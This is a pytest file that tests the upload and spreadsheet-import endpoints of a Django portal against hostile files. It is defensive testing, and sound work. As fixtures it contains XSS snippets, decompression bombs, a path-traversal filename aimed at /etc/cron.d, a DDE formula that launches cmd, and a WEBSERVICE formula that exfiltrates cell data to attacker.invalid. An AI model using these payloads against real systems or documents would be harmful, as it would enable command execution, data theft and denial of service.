"""Item 2, uploads through the real endpoints: the citizen's document upload and the
administrators' procedure import refuse files by content; XLSX imports refuse external links."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from dossiers import services
from dossiers.models import DossierAttachment
from tests.dossiers.factories import PDF_BYTES

PNG_HEADER_BOMB_SIZE = (30000, 30000)


def _png_bomb() -> bytes:
    """A small PNG that decodes to 900 megapixels (1-bit, highly compressible)."""
    buf = io.BytesIO()
    Image.new("1", PNG_HEADER_BOMB_SIZE).save(buf, "PNG", optimize=True)
    return buf.getvalue()


def _ooxml(main_part: str, extra: dict | None = None, *, compress_big: int = 0) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr(main_part, "<x/>")
        if compress_big:
            zf.writestr("word/media/bomb.bin", b"\0" * compress_big)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


HOSTILE_FILES = {
    "html_as_pdf": ("to-khai.pdf", b"<html><script>alert(1)</script></html>"),
    "png_as_pdf": ("to-khai.pdf", None),  # filled below (real PNG bytes, .pdf name)
    "svg": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg_as_png": ("anh.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "html": ("trang.html", b"<html><body>hi</body></html>"),
    "exe_as_pdf": ("to-khai.pdf", b"MZ\x90\x00\x03" + b"\0" * 200),
    "docx_bomb": ("don.docx", None),
    "xlsx_bomb": ("bang.xlsx", None),
    "png_bomb": ("anh.png", None),
    "empty": ("rong.pdf", b""),
}


def _content(key: str) -> tuple[str, bytes]:
    name, data = HOSTILE_FILES[key]
    if key == "png_as_pdf":
        buf = io.BytesIO()
        Image.new("RGB", (4, 4)).save(buf, "PNG")
        data = buf.getvalue()
    elif key == "docx_bomb":
        data = _ooxml("word/document.xml", compress_big=60 * 1024 * 1024)
    elif key == "xlsx_bomb":
        data = _ooxml("xl/workbook.xml", compress_big=60 * 1024 * 1024)
    elif key == "png_bomb":
        data = _png_bomb()
    return name, data


@pytest.fixture
def draft(province):
    return services.create_draft(
        user=province.citizen_a, case=province.staff.case, competent_agency=province.staff.agency
    )


@pytest.mark.django_db
@pytest.mark.parametrize("key", sorted(HOSTILE_FILES))
def test_citizen_upload_refuses_hostile_files(client, login, province, draft, key):
    login(province.citizen_a)
    name, data = _content(key)
    field = f"doc_{province.staff.form_doc.pk}"
    url = reverse("dossiers:citizen_draft_documents", args=[draft.public_id])
    response = client.post(url, {field: SimpleUploadedFile(name, data)})
    assert response.status_code == 400
    assert not DossierAttachment.objects.filter(dossier=draft).exists()
    body = response.content.decode()
    assert "<script>alert(1)" not in body
    assert any(word in body for word in ("Tệp", "tệp", "Định dạng", "Ảnh", "Nội dung"))


@pytest.mark.django_db
def test_citizen_upload_refuses_oversized_file(client, login, province, draft):
    login(province.citizen_a)
    big = PDF_BYTES + b"%" + b"0" * (10 * 1024 * 1024)
    url = reverse("dossiers:citizen_draft_documents", args=[draft.public_id])
    response = client.post(
        url, {f"doc_{province.staff.form_doc.pk}": SimpleUploadedFile("lon.pdf", big)}
    )
    assert response.status_code == 400
    assert "Tệp quá lớn" in response.content.decode()
    assert not DossierAttachment.objects.filter(dossier=draft).exists()


@pytest.mark.django_db
def test_citizen_upload_neutralises_path_traversal_name(client, login, province, draft, settings):
    login(province.citizen_a)
    url = reverse("dossiers:citizen_draft_documents", args=[draft.public_id])
    name = "../../../../etc/cron.d/<b>evil</b>.pdf"
    response = client.post(
        url, {f"doc_{province.staff.form_doc.pk}": SimpleUploadedFile(name, PDF_BYTES)}
    )
    assert response.status_code in (200, 302)
    attachment = DossierAttachment.objects.get(dossier=draft)
    assert attachment.file.name.startswith(f"dossiers/{draft.public_id}/")
    assert ".." not in attachment.file.name
    assert "/" not in attachment.original_name and ".." not in attachment.original_name
    assert "<" not in attachment.original_name
    from pathlib import Path

    assert Path(attachment.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())


# --- procedure import ------------------------------------------------------------------------
def _workbook(
    *, formula: str | None = None, external_part: bool = False, defined_name: str | None = None
) -> bytes:
    import openpyxl

    from procedures.importer import COLUMNS

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([c.label for c in COLUMNS])
    ws.append(["1.000001"] + ["x"] * (len(COLUMNS) - 1))
    if formula:
        ws.cell(row=2, column=len(COLUMNS) + 2, value=formula)
    if defined_name:
        from openpyxl.workbook.defined_name import DefinedName

        wb.defined_names["Ngoai"] = DefinedName("Ngoai", attr_text=defined_name)
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    if external_part:
        src = zipfile.ZipFile(io.BytesIO(data))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for item in src.infolist():
                zf.writestr(item, src.read(item.filename))
            zf.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
        data = buf.getvalue()
    return data


@pytest.fixture
def admin_client(client, login, province):
    login(province.administrator)
    return client


def _import(client, data: bytes, name: str = "danh-muc.xlsx"):
    return client.post(reverse("procedures:import"), {"file": SimpleUploadedFile(name, data)})


@pytest.mark.django_db
@pytest.mark.parametrize(
    "kwargs",
    [
        {"formula": "=[1]Sheet1!A1"},
        {"formula": "='C:\\\\secret\\\\[book.xlsx]Sheet1'!A1"},
        {"formula": "=cmd|' /C calc'!A0"},
        {"formula": '=WEBSERVICE("http://attacker.invalid/?"&A2)'},
        {"external_part": True},
        {"defined_name": "[1]Sheet1!$A$1"},
    ],
    ids=[
        "external-index",
        "external-path",
        "dde",
        "webservice",
        "externalLinks-part",
        "defined-name",
    ],
)
def test_import_refuses_external_links(admin_client, kwargs):
    response = _import(admin_client, _workbook(**kwargs))
    assert response.status_code == 200  # the form again, with the error next to the file
    assert "liên kết tới tệp hoặc nguồn dữ liệu bên ngoài" in response.content.decode()


@pytest.mark.django_db
def test_import_accepts_internal_workbook(admin_client):
    response = _import(admin_client, _workbook())
    assert "liên kết tới tệp hoặc nguồn dữ liệu bên ngoài" not in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("danh-muc.xlsx", b"<html><script>alert(1)</script></html>", "không phải bảng tính"),
        ("danh-muc.svg", b"<svg/>", ".xlsx"),
        ("../../danh-muc.xlsx", b"PK\x03\x04garbage", "không phải bảng tính"),
    ],
)
def test_import_refuses_type_lying_files(admin_client, name, data, message):
    response = _import(admin_client, data, name)
    body = response.content.decode()
    assert response.status_code == 200
    assert message in body
    assert "<script>alert(1)" not in body


@pytest.mark.django_db
def test_import_refuses_oversized_file(admin_client, settings):
    settings.PROCEDURES_IMPORT_MAX_BYTES = 1024
    response = _import(admin_client, _workbook())
    assert "Tệp quá lớn" in response.content.decode()
